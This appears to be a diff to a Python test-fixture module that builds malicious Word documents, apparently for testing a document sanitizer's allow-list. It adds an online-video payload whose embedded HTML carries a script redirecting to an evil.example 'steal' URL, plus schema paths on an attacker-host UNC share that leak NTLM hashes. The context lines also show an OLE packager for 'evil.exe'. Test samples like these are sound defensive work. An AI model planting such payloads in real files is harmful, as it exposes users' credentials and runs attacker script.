@@ -272,3 +272,65 @@ def ole_packager(name):
               b'C:\\evil.exe\x00' + struct.pack('<I', len(payload)) + payload)
     native = struct.pack('<I', len(native)) + native
     return compound_file([('\x01Ole10Native', native), ('\x01CompObj', b'\x01\x00\xfe\xff')])
+
+
+# --- content beyond the element allow-list (issue: online video, schema paths) --
+
+WP = 'http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing'
+PIC = 'http://schemas.openxmlformats.org/drawingml/2006/picture'
+WP15 = 'http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing'
+W14 = 'http://schemas.microsoft.com/office/word/2010/wordml'
+MC = 'http://schemas.openxmlformats.org/markup-compatibility/2006'
+SL = 'http://schemas.openxmlformats.org/schemaLibrary/2006/main'
+
+WEB_VIDEO_HTML = ('<iframe src="https://video.evil.example/embed/1" width="480" height="270">'
+                  '</iframe><script>document.location="https://evil.example/steal"</script>')
+
+
+def web_video_drawing(image_rel, html=WEB_VIDEO_HTML):
+    """What Word writes for Insert > Online Video: a picture (the poster frame)
+    whose cNvPr carries wp15:webVideoPr with the player's HTML, a click link
+    and an a:videoFile link to the page."""
+    from xml.sax.saxutils import quoteattr
+    return ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="%s">'
+            '<wp:extent cx="914400" cy="685800"/><wp:docPr id="1" name="Video"/>'
+            '<a:graphic xmlns:a="%s"><a:graphicData uri="%s"><pic:pic xmlns:pic="%s">'
+            '<pic:nvPicPr><pic:cNvPr id="1" name="Video" descr="online video">'
+            '<a:hlinkClick r:id="rIdVideo"/><a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}">'
+            '<wp15:webVideoPr xmlns:wp15="%s" embeddedHtml=%s h="270" w="480"/></a:ext></a:extLst>'
+            '</pic:cNvPr><pic:cNvPicPr/><pic:nvPr><a:videoFile r:link="rIdVideo"/></pic:nvPr></pic:nvPicPr>'
+            '<pic:blipFill><a:blip r:embed="%s"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
+            '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="685800"/></a:xfrm>'
+            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
+            '</a:graphic></wp:inline></w:drawing></w:r></w:p>'
+            % (WP, A, PIC, PIC, WP15, quoteattr(html), image_rel))
+
+
+def docx_web_video(text, png):
+    """A document with an online video whose HTML runs a script and frames an
+    external page; PNG is its poster frame."""
+    body = para(text) + web_video_drawing('rIdImg')
+    return docx(body, doc_rels=[
+        ('rIdImg', RT + 'image', 'media/image1.png'),
+        ('rIdVideo', RT + 'hyperlink', 'https://video.evil.example/watch?v=1', 'External')],
+        defaults=[('png', 'image/png')], parts=[('word/media/image1.png', png)])
+
+
+def docx_schema_paths(text):
+    """settings.xml naming schemas on a UNC share and a file:// URL:
+    w:attachedSchema, sl:manifestLocation, sl:schemaLocation (Word fetches
+    them: NTLM hashes leak to the share)."""
+    settings = ('<w:attachedSchema w:val="\\\\attacker-host\\schemas\\attached.xsd"/>'
+                '<sl:schemaLibrary xmlns:sl="%s"><sl:schema sl:uri="urn:x-evil"'
+                ' sl:manifestLocation="file://attacker-host/share/manifest.xml"'
+                ' sl:schemaLocation="\\\\attacker-host\\share\\schema.xsd"/></sl:schemaLibrary>'
+                % SL)
+    return docx(para(text), settings=settings)
+
+
+def alternate_content(choice_requires, choice_xml, fallback_xml):
+    """mc:AlternateContent as Word writes it around w14/wps content."""
+    return ('<mc:AlternateContent xmlns:mc="%s" xmlns:w14="%s"'
+            ' xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
+            '<mc:Choice Requires="%s">%s</mc:Choice><mc:Fallback>%s</mc:Fallback>'
+            '</mc:AlternateContent>' % (MC, W14, choice_requires, choice_xml, fallback_xml))
